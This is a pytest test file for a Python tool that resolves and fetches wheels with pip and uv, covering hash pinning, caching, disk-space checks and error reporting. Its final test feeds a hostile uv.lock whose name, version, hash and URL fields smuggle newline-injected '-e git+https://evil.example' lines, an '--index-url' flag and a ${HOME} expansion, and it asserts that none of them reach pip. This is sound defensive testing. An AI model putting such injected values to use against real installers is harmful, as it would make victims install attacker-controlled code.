"""Wheels fetched by a real pip and resolved by a real uv, from a folder of made wheels."""

from __future__ import annotations

import io
import os
import shutil
from pathlib import Path

import pytest
from madewheels import make_wheel

from omp_magic.facts.targets import Target, parse_target
from omp_magic.requirements import fetching, installers
from omp_magic.requirements.gathering import Gathered, gather
from omp_magic.requirements.pins import RequirementsError
from omp_magic.requirements.reading import read_requirements
from omp_magic.requirements.steps import Step, told_on
from omp_magic.requirements.wheelfiles import WheelFiles

MAC, WINDOWS = parse_target("macos-arm64"), parse_target("windows-x86_64")
ARM = "cp312-cp312-macosx_11_0_arm64"


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a folder of wheels that pip and uv look into, and no other index."""
    folder = tmp_path / "index"
    make_wheel(folder, "root", needs=("middle[fast]>=1", "winonly; sys_platform == 'win32'"))
    make_wheel(folder, "middle", version="1.0", tag=ARM, needs=("leaf<3", "speed; extra == 'fast'"))
    make_wheel(
        folder, "middle", version="2.0", tag=ARM, needs=("leaf<3", "root", "speed; extra == 'fast'")
    )
    make_wheel(folder, "middle", version="2.0", tag="cp312-cp312-win_amd64", needs=("leaf",))
    for version in ("2.5", "3.0"):
        make_wheel(folder, "leaf", version=version)
    make_wheel(folder, "speed")
    make_wheel(folder, "winonly")
    for name in os.environ:
        if name.startswith(("PIP_", "UV_")):
            monkeypatch.delenv(name)
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", os.fspath(folder))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    monkeypatch.setenv("UV_CACHE_DIR", os.fspath(tmp_path / "uv"))
    return folder


def gathered(folder: Path, text: str, target: Target = MAC, **options: object) -> Gathered:
    path = folder / "requirements.txt"
    path.write_text(text)
    options = {"cache": os.fspath(folder / "cache"), **options}
    return gather(read_requirements(path, target), target, **options)  # type: ignore[arg-type]  # as given


def files(found: Gathered) -> list[str]:
    return [os.path.basename(each) for each in found.wheels]


ALL = [
    "root-1.0-py3-none-any.whl",
    f"middle-2.0-{ARM}.whl",
    "leaf-2.5-py3-none-any.whl",
    "speed-1.0-py3-none-any.whl",
]


@pytest.mark.usefixtures("index")
@pytest.mark.parametrize("resolver", ["uv", "us"])
def test_what_is_open_is_resolved_for_the_target(
    tmp_path: Path, resolver: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if resolver == "us":
        monkeypatch.setattr(installers.shutil, "which", lambda _: None)  # type: ignore[attr-defined]  # pip is this Python's
    elif shutil.which("uv") is None:
        pytest.skip("uv is not installed")
    steps: list[Step] = []
    found = gathered(tmp_path, "root\n", progress=steps.append)
    assert sorted(files(found)) == sorted(ALL)
    assert not found.unknown
    assert (
        "by uv" if resolver == "uv" else "the newest wheel of each, since uv is not there"
    ) in found.notes[0]
    assert "not locked" in found.notes[0]
    assert steps[0].line.startswith(f"{steps[0].of} wheel")
    assert "sizes not told by the file" in steps[0].line
    assert steps[-1].done == steps[-1].of
    kept = os.listdir(tmp_path / "cache" / "wheels" / "macos-arm64-cp312")
    assert sorted(each for each in kept if each.endswith(".whl")) == sorted(ALL)
    windows = gathered(tmp_path, "root\n", WINDOWS)
    assert "winonly-1.0-py3-none-any.whl" in files(windows)
    assert "middle-2.0-cp312-cp312-win_amd64.whl" in files(windows)


def test_what_is_pinned_is_fetched_once(
    tmp_path: Path, index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sha = fetching_hash(index / "leaf-2.5-py3-none-any.whl")
    other = fetching_hash(index / f"middle-1.0-{ARM}.whl")
    text = f"leaf==2.5 --hash=sha256:{sha}\nmiddle==1.0 --hash=sha256:{other}\n"
    found = gathered(tmp_path, text)
    assert files(found) == ["leaf-2.5-py3-none-any.whl", f"middle-1.0-{ARM}.whl"]
    assert found.fetched_bytes == found.size_bytes > 0
    assert not found.notes

    def never(*_: object) -> object:
        raise AssertionError("fetched again")

    monkeypatch.setattr(fetching, "download", never)
    again = gathered(tmp_path, text)
    assert (again.wheels, again.fetched_bytes) == (found.wheels, 0)
    monkeypatch.undo()
    with open(found.wheels[0], "r+b") as file:  # half a file is not taken
        file.truncate(100)
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    monkeypatch.setenv("PIP_FIND_LINKS", os.fspath(index))
    again = gathered(tmp_path, text)
    assert again.wheels == found.wheels
    assert again.fetched_bytes == os.path.getsize(found.wheels[0])
    # Nor is another file of the same name, whose hash is not the lock's.
    make_wheel(Path(found.wheels[0]).parent, "leaf", {"leaf/evil.py": b""}, version="2.5")
    again = gathered(tmp_path, text)
    assert again.fetched_bytes == os.path.getsize(found.wheels[0])


def fetching_hash(path: Path) -> str:
    import hashlib

    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_what_cannot_be_had_is_told_and_the_rest_comes(tmp_path: Path, index: Path) -> None:
    make_wheel(index, "linux-only", tag="cp312-cp312-manylinux_2_17_x86_64")
    text = (
        "leaf==2.5  # via -r a\nlinux-only==1.0\nnowhere==1\nspeed==1.0 --hash=sha256:" + "0" * 64
    )
    found = gathered(tmp_path, text)
    assert files(found) == ["leaf-2.5-py3-none-any.whl"]
    told = {gap.what: gap.why for gap in found.unknown}
    assert set(told) == {"linux-only 1.0", "nowhere 1", "speed 1.0"}
    assert "pip has no wheel for macos-arm64 with Python 3.12" in told["nowhere 1"]
    assert "hash" in told["speed 1.0"].lower()
    assert all("\n" not in why for why in told.values())


def test_a_folder_of_wheels_is_used_and_nothing_is_fetched(
    tmp_path: Path, index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*_: object, **__: object) -> object:
        raise AssertionError("a tool was asked")

    monkeypatch.setattr(installers.subprocess, "run", never)  # type: ignore[attr-defined]  # to be sure
    found = gathered(tmp_path, "root\n", wheels=os.fspath(index))
    assert files(found) == ALL
    assert WheelFiles(found.wheels, MAC).is_file(
        "/target/lib/python3.12/site-packages/middle/__init__.py"
    )
    pinned = gathered(tmp_path, "middle==1.0\nmissing==1\n", wheels=os.fspath(index))
    assert files(pinned)[0] == f"middle-1.0-{ARM}.whl"
    (gap,) = pinned.unknown
    assert (gap.what, gap.why) == ("missing 1", f"no wheel of it for macos-arm64 in {index}")
    with pytest.raises(RequirementsError, match="no such folder"):
        gathered(tmp_path, "root", wheels=os.fspath(tmp_path / "none"))
    offline = gathered(tmp_path, "leaf==2.5\n", fetch=False)
    assert "nothing was to be fetched" in offline.unknown[0].why


def test_versions_that_do_not_go_together_are_told(tmp_path: Path, index: Path) -> None:
    make_wheel(index, "one", needs=("leaf>=3",))
    make_wheel(index, "two", needs=("leaf<3", "not a requirement"))
    found = gathered(tmp_path, "one\ntwo\nleaf==2.5\n", wheels=os.fspath(index))
    told = [f"{gap.what}: {gap.why}" for gap in found.unknown]
    assert "leaf: one needs >=3, and 2.5 was taken" in told
    assert any("not a requirement" in each for each in told)


def test_circles_of_needs_end(tmp_path: Path, index: Path) -> None:
    make_wheel(index, "ring-a", needs=("ring-b[x]",))
    make_wheel(index, "ring-b", needs=("ring-a[y]", "ring-b[y]; extra == 'x'"))
    found = gathered(tmp_path, "ring-a\n", wheels=os.fspath(index))
    assert len(found.wheels) == 2


@pytest.mark.usefixtures("index")
def test_a_disk_that_is_too_small_is_told_before(tmp_path: Path) -> None:
    lock = f"""
        version = 1
        [[package]]
        name = "leaf"
        version = "2.5"
        source = {{ registry = "x" }}
        wheels = [{{ url = "https://x/leaf-2.5-py3-none-any.whl", size = {1 << 49} }}]
    """
    path = tmp_path / "uv.lock"
    path.write_text(lock)
    wanted = read_requirements(path, MAC)
    with pytest.raises(
        RequirementsError, match=r"free and 1 wheel to fetch; accepted: a disk with 1125\d+\.\d GB"
    ):
        gather(wanted, MAC, cache=os.fspath(tmp_path / "cache"))
    (tmp_path / "file").write_text("")
    with pytest.raises(RequirementsError, match="a folder to write to"):
        gather(wanted, MAC, cache=os.fspath(tmp_path / "file"))


@pytest.mark.usefixtures("index")
def test_an_index_that_cannot_be_reached_is_told_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PIP_NO_INDEX")
    monkeypatch.setenv("PIP_RETRIES", "1")
    monkeypatch.setenv("PIP_INDEX_URL", "http://me:secret@127.0.0.1:9/simple")
    found = gathered(tmp_path, "a==1 # via -r a\nb==2\nc==3\n")
    (gap,) = found.unknown
    assert gap.what == "a 1, b 2, c 3"
    assert gap.why.startswith("the package index cannot be reached")
    assert "secret" not in gap.why


def test_progress_is_a_line_each_where_there_is_no_terminal() -> None:
    stream = io.StringIO()
    tell = told_on(stream)
    step = Step(
        done=0, of=2, done_bytes=0, of_bytes=5_000_000, unsized=1, free_bytes=7 * 10**9, folder="/c"
    )
    tell(step)
    assert stream.getvalue() == (
        "2 wheels to fetch: 5 MB and 1 whose size the file does not tell; 7.0 GB free in /c\n"
    )


WHEEL = "leaf-1-py3-none-any.whl"
EVIL = "-e git+https://evil.example/x#egg=x"


@pytest.mark.usefixtures("index")
def test_a_hostile_lock_cannot_make_pip_do_anything_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: list[str] = []

    def run(command: list[str], *_: object) -> tuple[installers.Answer, str]:
        given.append(Path(command[-1]).read_text())
        return installers.Answer(done=False, why="no"), ""

    monkeypatch.setattr(installers, "_run", run)
    wheel = "https://x/leaf-1-py3-none-any.whl"
    rows = [
        (f"leaf\\n{EVIL}", "1", "00", wheel),
        ("leaf", f"1\\n{EVIL}", "00", wheel),
        ("leaf-b", "1", f"00\\n{EVIL}", wheel),
        ("leaf-c", "1", "00", f"{wheel}\\n{EVIL}"),
        ("leaf-d", "1", "00", "git+https://evil.example/leaf-1-py3-none-any.whl"),
        ("leaf-e", "1", "00", "https://evil.example/${HOME}/leaf-1-py3-none-any.whl"),
        (f"leaf-f {EVIL}", f"1 {EVIL}", "00", wheel),
        ("--index-url=http://evil", "1", "00", wheel),
    ]
    lock = "version = 1\n" + "".join(
        f'[[package]]\nname = "{name}"\nversion = "{version}"\nsource = {{ registry = "x" }}\n'
        f'wheels = [{{ url = "{url}", filename = "{WHEEL}", hash = "sha256:{sha}" }}]\n'
        for name, version, sha, url in rows
    )
    path = tmp_path / "uv.lock"
    path.write_text(lock)
    found = gather(read_requirements(path, MAC), MAC, cache=os.fspath(tmp_path / "cache"))
    text = tmp_path / "requirements.txt"
    text.write_text("x @ git+https://evil.example/leaf-1-py3-none-any.whl  # via -r a\n")
    other = gather(read_requirements(text, MAC), MAC, cache=os.fspath(tmp_path / "cache"))
    assert not found.wheels
    assert len(found.unknown) == len(rows)
    assert len(other.unknown) == 1
    assert given
    for line in "".join(given).splitlines():
        assert line.startswith("leaf-"), line
        assert "evil" not in line
        assert "$" not in line
    assert all("\n" not in gap.what for gap in found.unknown)
